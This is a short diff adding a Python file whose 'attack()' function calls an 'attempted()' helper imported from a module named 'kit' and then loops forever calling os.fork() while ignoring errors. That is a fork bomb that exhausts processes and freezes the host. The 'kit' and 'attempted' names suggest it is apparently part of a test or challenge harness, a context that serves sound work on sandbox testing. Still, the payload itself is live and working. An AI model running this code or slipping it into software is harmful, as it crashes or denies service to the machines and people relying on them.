@@ -1,0 +1,10 @@
+from kit import *
+
+
+def attack():
+    attempted()
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
